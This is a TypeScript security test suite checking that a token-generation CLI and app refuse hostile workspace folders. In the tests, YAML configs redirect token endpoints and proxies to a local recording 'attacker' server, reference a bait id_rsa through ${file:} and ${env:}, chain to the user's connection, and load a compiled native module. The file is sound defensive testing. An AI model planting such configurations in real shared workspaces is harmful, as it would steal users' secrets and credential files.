/**
 * Hostile workspace folders: a workspace from git is someone else's file. Each attack below was
 * tried against a user who keeps their own secrets for a team workspace, with a recording
 * "attacker" endpoint on 127.0.0.1: a pull that moves a connection's token endpoint or a proxy's
 * host, a fork that copies the marker, a marker planted in a shared parent, a teammate's
 * `${file:}`, `${env:}`, keystore outside the folder, a token exchange chained to the user's
 * connection, YAML aliases hiding a reference, and a change made on disk while the app has the
 * workspace open. Each is run through the CLI (a child process, as a user runs it) or the app's
 * dispatch, and nothing of the user's may reach the recording endpoint, nor a bait file be read
 * (access times), before the user confirms. Positive controls: an unchanged workspace, a pull
 * that changes only comments, and confirmed bindings keep working with no prompt, and the
 * recording endpoint does record what the user confirmed to send there.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import type { Duplex } from 'node:stream';
import { join } from 'node:path';
import { createProxy, type ProxyServer } from 'proxy';
import { startSandbox, type Sandbox } from '../../sandbox/sandbox.js';
import { SANDBOX_SECRET } from '../../sandbox/authorization-server.js';
import type { ConnectionSummary, WorkspaceInfo } from '../../shared/contract.js';
import { createAppService, type AppService } from '../../electron/core/index.js';
import { openWorkspaceAt } from '../../electron/core/workspace/locate.js';
import { runCli, type CliOptions } from '../support/cli-run.js';
import { freePort } from '../support/ports.js';

const PROXY_PASSWORD = 'proxy-password-of-the-user-7Qx2';
const ENV_SECRET = 'value-of-the-users-variable-9Kd3';
const BAIT_TEXT = 'bait-file-contents-never-to-be-read-4Wm8';
/** Access times older than modification times: any read moves them (relatime). */
const OLD = new Date(Date.now() - 3 * 86_400_000);

let sandbox: Sandbox;
let root: string;
let team: string;
let dataDir: string;
let attacker: { server: Server; url: string; port: number; received: string[] };
let proxy: ProxyServer;
let proxyPort: number;
const proxied: string[] = [];
let bait: string;
let outsideKey: string;

function recorder(): Promise<typeof attacker> {
  const received: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ access_token: 'recorded', token_type: 'Bearer', expires_in: 60 }));
    });
  });
  // As a proxy: a CONNECT is recorded with its headers, then refused.
  server.on('connect', (req: IncomingMessage, socket: Duplex) => {
    received.push(`CONNECT ${req.url}\n${JSON.stringify(req.headers)}`);
    socket.end('HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\n\r\n');
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const port = (server.address() as { port: number }).port;
      resolve({ server, url: `http://127.0.0.1:${port}/token`, port, received });
    }),
  );
}

/** Every form a secret travels in: none may reach the attacker. */
function forms(secret: string): string[] {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  return [
    secret,
    encodeURIComponent(secret),
    b64(secret),
    b64(`u:${secret}`),
    b64(`cc-basic:${secret}`),
  ];
}

function expectNothingOfTheUser(where: string) {
  const all = attacker.received.join('\n');
  for (const secret of [SANDBOX_SECRET, PROXY_PASSWORD, ENV_SECRET, BAIT_TEXT])
    for (const form of forms(secret)) expect(all, `${where}: ${form}`).not.toContain(form);
}

const run = (args: string[], options: CliOptions & { cwd?: string } = {}) =>
  runCli(['--data-dir', dataDir, ...args], { cwd: team, ...options });

async function ok(p: ReturnType<typeof runCli>) {
  const r = await p;
  expect(r.code, r.stderr).toBe(0);
  return r;
}

const write = (folder: string, file: string, text: string) => {
  mkdirSync(join(folder, file, '..'), { recursive: true });
  writeFileSync(join(folder, file), text);
};

const paymentsYaml = (extra = '') =>
  `name: payments\ntype: client_credentials\nissuer: ${sandbox.server.issuer}\n${extra}client:\n  id: cc-basic\nparams:\n  scope: api:read\n`;

function oldAtime(path: string) {
  utimesSync(path, OLD, statSync(path).mtime);
}
const unread = (path: string) => statSync(path).atime.getTime() === OLD.getTime();

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'tokensmith-hostile-ws-'));
  dataDir = join(root, 'data');
  team = join(root, 'team');
  sandbox = await startSandbox({
    dataDir: join(root, 'sandbox-data'),
    port: 0,
    jwkPort: await freePort(),
  });
  attacker = await recorder();
  proxy = createProxy(createServer());
  proxy.authenticate = (req: IncomingMessage) => {
    proxied.push(req.headers['proxy-authorization'] ?? '');
    return (
      req.headers['proxy-authorization'] ===
      `Basic ${Buffer.from(`u:${PROXY_PASSWORD}`).toString('base64')}`
    );
  };
  await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
  proxyPort = (proxy.address() as { port: number }).port;
  bait = join(root, 'id_rsa');
  writeFileSync(bait, BAIT_TEXT);
  outsideKey = join(root, 'deploy_key.pem');
  writeFileSync(
    outsideKey,
    generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({
      type: 'pkcs8',
      format: 'pem',
    }),
  );

  // The user's team workspace: their own client secret and proxy password, and a working token.
  await ok(run(['workspace', 'init', team, '--name', 'Payments team'], { cwd: root }));
  write(team, 'connections/payments.yaml', paymentsYaml());
  await ok(run(['secret', 'set', 'payments', 'client-secret'], { stdin: SANDBOX_SECRET }));
  await ok(
    run(
      [
        'proxy',
        'add',
        'corp',
        '--host',
        '127.0.0.1',
        '--port',
        String(proxyPort),
        '--username',
        'u',
        '--password-stdin',
      ],
      { stdin: PROXY_PASSWORD },
    ),
  );
  write(
    team,
    'connections/via-proxy.yaml',
    paymentsYaml().replace('name: payments', 'name: via-proxy') + 'proxyAlias: corp\n',
  );
  await ok(run(['secret', 'set', 'via-proxy', 'client-secret'], { stdin: SANDBOX_SECRET }));
}, 60_000);

afterAll(async () => {
  await sandbox?.close();
  attacker?.server.close();
  proxy?.close();
});

describe('a hostile workspace folder', () => {
  it('positive control: the unchanged workspace gets tokens with no prompt, also through the proxy with the user password', async () => {
    const token = await ok(run(['token', 'payments', '--no-cache']));
    expect(token.stdout).toMatch(/^[\w-]{20,}$/);
    expect(token.stderr).toContain('workspace "Payments team"');
    expect(token.stderr).not.toContain('not confirmed');
    await ok(run(['token', 'via-proxy', '--no-cache']));
    expect(proxied.length).toBeGreaterThan(0);
  });

  it('a pull that moves the token endpoint gets no secret; pulled back, it works again with no prompt', async () => {
    const path = join(team, 'connections/payments.yaml');
    const before = readFileSync(path, 'utf8');
    writeFileSync(path, paymentsYaml(`tokenEndpoint: ${attacker.url}\n`));
    const moved = await run(['token', 'payments', '--no-cache']);
    expect(moved.code).toBe(3);
    expect(moved.stderr).toContain(
      'not used: tokenEndpoint changed from (empty) to ' + attacker.url,
    );
    expect(moved.stderr).toContain('needs a Client Secret');
    expectNothingOfTheUser('pull moving the token endpoint');
    expect(attacker.received).toHaveLength(0);
    writeFileSync(path, before);
    await ok(run(['token', 'payments', '--no-cache']));
  });

  it('a pull that moves the proxy host never sends the proxy password there', async () => {
    const path = join(team, 'proxies/corp.yaml');
    const before = readFileSync(path, 'utf8');
    writeFileSync(path, before.replace(String(proxyPort), String(attacker.port)));
    const moved = await run(['token', 'via-proxy', '--no-cache']);
    expect(moved.code).not.toBe(0);
    expect(moved.stderr).toContain(
      `proxy "corp" is not used: port changed from ${proxyPort} to ${attacker.port}`,
    );
    expectNothingOfTheUser('pull moving the proxy');
    // The request did go to the moved proxy, without the password.
    expect(attacker.received.some((r) => r.startsWith('CONNECT '))).toBe(true);
    attacker.received.length = 0;
    writeFileSync(path, before);
    await ok(run(['token', 'via-proxy', '--no-cache']));
  });

  it('a fork that copies the marker is another workspace: none of the user secrets', async () => {
    const evil = join(root, 'evil');
    cpSync(join(team, 'tokensmith.workspace.yaml'), join(evil, 'tokensmith.workspace.yaml'));
    write(evil, 'connections/payments.yaml', paymentsYaml(`tokenEndpoint: ${attacker.url}\n`));
    const fork = await run(['token', 'payments', '--no-cache'], { cwd: evil });
    expect(fork.code).toBe(3);
    expect(fork.stderr).toContain('needs a Client Secret');
    // Even pointing where the user's secret goes, the fork gets none of it.
    write(evil, 'connections/payments.yaml', paymentsYaml());
    expect((await run(['token', 'payments', '--no-cache'], { cwd: evil })).code).toBe(3);
    expectNothingOfTheUser('fork');
    expect(attacker.received).toHaveLength(0);
  });

  it('a marker another user owns, or in a folder others can write, is ignored and said so', async () => {
    const shared = join(root, 'shared');
    mkdirSync(join(shared, 'victim', 'sub'), { recursive: true });
    chmodSync(shared, 0o1777);
    cpSync(join(team, 'tokensmith.workspace.yaml'), join(shared, 'tokensmith.workspace.yaml'));
    write(
      shared,
      'connections/prod.yaml',
      `name: prod\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: x\n  secret: \${file:${bait}}\n`,
    );
    oldAtime(bait);
    const cwd = join(shared, 'victim', 'sub');
    // Another user's marker (only root can hand a file to another user here).
    if (process.getuid?.() === 0) {
      chownSync(join(shared, 'tokensmith.workspace.yaml'), 65534, 65534);
      const foreign = await run(['token', 'prod', '--no-cache'], { cwd });
      expect(foreign.stderr).toContain(
        `ignored the workspace in ${shared}: its tokensmith.workspace.yaml belongs to another user (uid 65534)`,
      );
      expect(foreign.stderr).toContain('No connection named "prod"');
      chownSync(join(shared, 'tokensmith.workspace.yaml'), process.getuid(), process.getgid!());
    }
    const writable = await run(['token', 'prod', '--no-cache'], { cwd });
    expect(writable.stderr).toContain('other users can write to the folder');
    expect(writable.stderr).toContain('No connection named "prod"');
    // Listed by the user, the folder is used, and its bindings still wait for review.
    await ok(run(['workspace', 'trust', '--list', '--workspace', shared], { cwd }));
    const listed = await run(['token', 'prod', '--no-cache'], { cwd });
    expect(listed.code).toBe(3);
    expect(listed.stderr).not.toContain('ignored the workspace');
    expect(listed.stderr).toContain('not confirmed');
    expect(unread(bait)).toBe(true);
    expectNothingOfTheUser('planted marker');
    expect(attacker.received).toHaveLength(0);
  });

  it("a teammate's ${file:}, ${env:}, outside keystore, chained token and YAML alias wait for review: nothing read, nothing sent", async () => {
    write(
      team,
      'connections/file-ref.yaml',
      `name: file-ref\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: x\n  secret: \${file:${bait}}\n`,
    );
    write(
      team,
      'connections/env-ref.yaml',
      `name: env-ref\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: x\n  secret: \${env:USER_SECRET}\n`,
    );
    write(team, 'keystores/deploy.yaml', `name: deploy\nkind: pem\npath: ${outsideKey}\n`);
    write(
      team,
      'connections/signer.yaml',
      `name: signer\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: root\n  authMethod: private_key_jwt\njwt:\n  signing:\n    keystore: deploy\n`,
    );
    write(
      team,
      'connections/exchange.yaml',
      `name: exchange\ntype: token_exchange\ntokenEndpoint: ${attacker.url}\nclient:\n  id: x\nsubjectToken:\n  source: connection\n  connection: payments\n`,
    );
    write(
      team,
      'connections/alias.yaml',
      `name: alias\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\ndescription: &ref \${file:${bait}}\nclient:\n  id: x\n  secret: *ref\n`,
    );
    oldAtime(bait);
    oldAtime(outsideKey);
    const env = { USER_SECRET: ENV_SECRET };
    for (const name of ['file-ref', 'env-ref', 'signer', 'exchange', 'alias']) {
      const r = await run(['token', name, '--no-cache'], { env });
      expect(r.code, `${name}: ${r.stderr}`).toBe(3);
      expect(r.stderr).toMatch(/(not confirmed|left out)/);
    }
    const list = await ok(run(['workspace', 'trust', '--list']));
    expect(list.stdout).toContain(`untrusted file ${bait}`);
    expect(list.stdout).toContain('untrusted environment variable USER_SECRET');
    expect(list.stdout).toContain(`untrusted file ${outsideKey}`);
    expect(list.stdout).toContain('untrusted your connection "payments"');
    // The list of the app and of the CLI reads no reference either.
    await ok(run(['list']));
    expect(unread(bait)).toBe(true);
    expect(unread(outsideKey)).toBe(true);
    expectNothingOfTheUser('teammate bindings');
    expect(attacker.received).toHaveLength(0);
    // Without a terminal, trust neither asks nor confirms: it lists and exits 3.
    const noTty = await run(['workspace', 'trust']);
    expect(noTty.code).toBe(3);
    expect(noTty.stderr).toContain('--yes');
    expect(attacker.received).toHaveLength(0);
  });

  it.skipIf(spawnSync('cc', ['--version']).error)(
    'a PKCS#11 module committed to the folder is native code: never loaded before it is confirmed, also when run from inside the folder',
    async () => {
      // A library whose constructor leaves a mark: loading it (dlopen) is running it.
      const mark = join(root, 'module-ran');
      const source = join(root, 'evil.c');
      writeFileSync(
        source,
        `#include <stdio.h>\n__attribute__((constructor)) static void ran(void) { FILE *f = fopen("${mark}", "w"); if (f) fclose(f); }\n`,
      );
      mkdirSync(join(team, 'lib'), { recursive: true });
      const built = spawnSync('cc', [
        '-shared',
        '-fPIC',
        '-o',
        join(team, 'lib', 'evil.so'),
        source,
      ]);
      expect(built.status, String(built.stderr)).toBe(0);
      write(
        team,
        'keystores/hsm.yaml',
        'name: hsm\nkind: pkcs11\npath: "pkcs11:token=team"\nmodule: lib/evil.so\n',
      );
      write(
        team,
        'connections/hsm-signer.yaml',
        `name: hsm-signer\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: root\n  authMethod: private_key_jwt\njwt:\n  signing:\n    keystore: hsm\n`,
      );
      // Run from inside the folder, where a relative module path would count as inside it.
      const r = await run(['token', 'hsm-signer', '--no-cache'], { cwd: team });
      expect(r.code, r.stderr).toBe(3);
      const list = await ok(run(['workspace', 'trust', '--list'], { cwd: team }));
      expect(list.stdout).toContain(join(team, 'lib', 'evil.so'));
      expect(list.stdout).toContain('PKCS#11 module');
      expect(existsSync(mark)).toBe(false);
      expect(attacker.received).toHaveLength(0);
      rmSync(join(team, 'keystores', 'hsm.yaml'));
      rmSync(join(team, 'connections', 'hsm-signer.yaml'));
    },
  );

  it('positive control: a confirmed binding is used with no prompt, a comment-only pull asks nothing, a pull that moves it asks again', async () => {
    const path = join(team, 'connections/env-sandbox.yaml');
    const yaml = `name: env-sandbox\ntype: client_credentials\nissuer: ${sandbox.server.issuer}\nclient:\n  id: cc-basic\n  secret: \${env:SANDBOX_SECRET_VAR}\nparams:\n  scope: api:read\n`;
    writeFileSync(path, yaml);
    const env = { SANDBOX_SECRET_VAR: SANDBOX_SECRET };
    expect((await run(['token', 'env-sandbox', '--no-cache'], { env })).code).toBe(3);
    const service = await appService();
    const info = await service.dispatch('workspace:current', {});
    const digest = (info.ok ? (info.value as WorkspaceInfo).bindings : [])?.find(
      (b) => b.record === 'connection:env-sandbox',
    )?.digest;
    expect(digest).toBeTruthy();
    const trusted = await service.dispatch('workspace:trust', { confirm: [digest!] });
    expect(trusted.ok).toBe(true);
    await ok(run(['token', 'env-sandbox', '--no-cache'], { env }));
    writeFileSync(
      path,
      `# Sandbox client, reviewed\n${yaml.replace('name: env-sandbox\n', 'name: env-sandbox\ndescription: a note\n')}`,
    );
    await ok(run(['token', 'env-sandbox', '--no-cache'], { env }));
    writeFileSync(
      path,
      yaml.replace(`issuer: ${sandbox.server.issuer}`, `tokenEndpoint: ${attacker.url}`),
    );
    const moved = await run(['token', 'env-sandbox', '--no-cache'], { env });
    expect(moved.code).toBe(3);
    expect(moved.stderr).toContain(`sent in its requests to ${attacker.url}`);
    expect(attacker.received).toHaveLength(0);
    // The recording endpoint does record what the user confirms to send there.
    await ok(run(['workspace', 'trust', '--yes']));
    await ok(
      run(['token', 'env-sandbox', '--no-cache'], {
        env: { SANDBOX_SECRET_VAR: 'a-value-the-user-allowed' },
      }),
    );
    expect(attacker.received).toHaveLength(1);
    expect(attacker.received[0]).toContain(
      Buffer.from('cc-basic:a-value-the-user-allowed').toString('base64'),
    );
    attacker.received.length = 0;
  });

  it("the app's dispatch: a file changed on disk while the workspace is open is refused until reviewed", async () => {
    const service = await appService();
    const path = join(team, 'connections/late.yaml');
    writeFileSync(path, paymentsYaml().replace('name: payments', 'name: late'));
    const list = await service.dispatch('connections:list', {});
    const late = list.ok
      ? (list.value as ConnectionSummary[]).find((c) => c.name === 'late')
      : undefined;
    expect(late).toBeTruthy();
    writeFileSync(
      path,
      `name: late\ntype: client_credentials\ntokenEndpoint: ${attacker.url}\nclient:\n  id: x\n  secret: \${file:${bait}}\n`,
    );
    oldAtime(bait);
    const got = await service.dispatch('connections:get', { id: late!.id });
    expect(got.ok).toBe(true);
    const run1 = await service.dispatch('tokens:generate', {
      requestId: 'late-1',
      connection: got.ok ? got.value : undefined,
      useCache: false,
    });
    expect(run1.ok).toBe(false);
    expect(run1.ok ? '' : run1.error.code).toBe('confirmation_required');
    expect(unread(bait)).toBe(true);
    expect(attacker.received).toHaveLength(0);
  });
});

async function appService(): Promise<AppService> {
  const env = { TOKENSMITH_SECRET_KEY_STORE: 'file' };
  return createAppService({
    workspace: await openWorkspaceAt({ dataDir, env, folder: team }),
    env,
    mode: 'browser',
    version: 'test',
    emit: () => undefined,
  });
}
